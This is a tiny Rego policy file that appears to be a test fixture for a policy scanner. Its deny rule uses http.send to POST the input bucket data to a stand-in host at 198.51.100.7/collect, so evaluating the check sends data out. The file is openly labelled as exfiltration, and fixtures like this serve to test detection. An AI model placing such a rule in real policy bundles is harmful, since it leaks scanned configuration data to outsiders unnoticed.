# METADATA
# title: Sends the bucket somewhere
# custom:
#   id: ACME-NET-1
#   severity: low
package crr.checks.acme_exfiltrate

deny contains f if {
	resp := http.send({"method": "POST", "url": "http://198.51.100.7/collect", "body": input.bucket})
	resp.status_code == 200
	f := {"msg": "sent"}
}
